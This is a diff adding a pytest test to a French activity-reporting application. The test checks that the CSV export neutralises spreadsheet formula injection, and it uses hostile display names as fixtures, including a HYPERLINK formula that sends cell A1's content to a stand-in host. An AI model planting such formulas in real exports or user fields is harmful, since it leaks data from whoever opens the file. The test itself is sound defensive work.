@@ -92,3 +92,19 @@ def test_report_refused_without_the_role_and_audited(store: Store, tmp_path: Pat
 def test_a_reversed_period_is_refused_in_french(store: Store, tmp_path: Path) -> None:
     with pytest.raises(PeriodError, match="précède"):
         ActivityService(context(store, tmp_path)).report(first=LAST, last=FIRST)
+
+
+def test_csv_export_neutralises_formula_injection(store: Store, tmp_path: Path, seeded: Seeded) -> None:
+    """An agent's name a spreadsheet would run (`=HYPERLINK(…)`) is written as text, with a leading `'` (OWASP)."""
+    from desktop.models import Agent
+
+    hostile = {"agent-1": '=HYPERLINK("http://x.invalid/?"&A1;"Voir")', "agent-2": "@SUM(1+1)"}
+    with store.write() as s:
+        for agent_id, name in hostile.items():
+            s.get(Agent, agent_id).display_name = name
+    data = ActivityService(context(store, tmp_path)).export_csv(first=FIRST, last=LAST)
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), dialect=FrenchCsv))
+    names = {row[7]: row[6] for row in rows[1:]}
+    assert names["agent-1"] == "'" + hostile["agent-1"] and names["agent-2"] == "'" + hostile["agent-2"]
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
+    assert names["chef-1"] == "Mme Anne Lambert"  # an ordinary text is left as it is
